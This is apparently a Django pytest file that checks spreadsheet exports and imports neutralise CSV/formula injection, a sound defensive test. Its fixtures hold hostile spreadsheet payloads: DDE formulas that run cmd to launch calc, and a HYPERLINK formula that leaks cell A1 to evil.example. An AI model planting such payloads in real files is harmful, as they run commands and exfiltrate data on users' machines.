"""Exports never hand a spreadsheet a formula: text that starts like one stays text (CSV injection)."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from members.models import Member
from spreadsheets.formats import escape_formula, unescape_formula

DDE = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile_member(db):
    return Member.objects.create(
        name=DDE,
        short_name=AT_SUM,
        address=HYPERLINK,
        city=Member.City.CHANGSHA,
        kind=Member.Kind.HIGH_TECH,
    )


def export(client, file_format):
    response = client.post(reverse("admin:members_member_export"), {"format": file_format, "resource": "0"})
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        (DDE, "'" + DDE),
        (HYPERLINK, "'" + HYPERLINK),
        (AT_SUM, "'" + AT_SUM),
        ("+8673188888888", "'+8673188888888"),
        ("-1", "'-1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("长沙高新区", "长沙高新区"),
        ("a=1", "a=1"),
        (7, 7),
    ],
)
def test_text_that_a_spreadsheet_reads_as_a_formula_gets_an_apostrophe(value, escaped):
    assert escape_formula(value) == escaped
    if isinstance(value, str):
        assert unescape_formula(escape_formula(value)) == value


def test_csv_export_escapes_formulae(staff_client, hostile_member):
    rows = list(csv.reader(io.StringIO(export(staff_client, "0").decode("utf-8-sig"))))
    name, short_name, *_ = rows[1]
    assert name == "'" + DDE
    assert short_name == "'" + AT_SUM
    assert rows[1][7] == "'" + HYPERLINK
    assert rows[1][2] == "长沙市"  # everything else as it was


def test_xlsx_export_has_text_cells_only_never_formulae(staff_client, hostile_member):
    content = export(staff_client, "1")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = {cell.value: cell for cell in sheet[2]}
    for text in (DDE, HYPERLINK, AT_SUM):
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix  # Excel keeps it text even when someone edits the cell
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("file_format", ["0", "1"])
def test_export_then_import_keeps_formula_like_text_exactly(staff_client, hostile_member, file_format):
    content = export(staff_client, file_format)
    name = "members.csv" if file_format == "0" else "members.xlsx"
    preview = staff_client.post(
        reverse("admin:members_member_import"),
        {"format": file_format, "import_file": SimpleUploadedFile(name, content)},
    )
    assert (
        "将新增 <strong>0</strong> 个，更新 <strong>0</strong> 个，<strong>1</strong> 个没有变化"
        in preview.content.decode()
    )


def test_imported_formula_like_text_is_stored_as_text(staff_client, db):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [["名称", "简称", "市州", "类型", "地址"], [DDE, AT_SUM, "长沙市", "高新技术产业开发区", HYPERLINK]]
    )
    preview = staff_client.post(
        reverse("admin:members_member_import"),
        {"format": "0", "import_file": SimpleUploadedFile("m.csv", buffer.getvalue().encode("utf-8"))},
    )
    fields = {**preview.context["confirm_form"].initial, "confirm": "确认导入"}
    staff_client.post(reverse("admin:members_member_process_import"), fields)
    member = Member.objects.get()
    assert (member.name, member.short_name, member.address) == (DDE, AT_SUM, HYPERLINK)
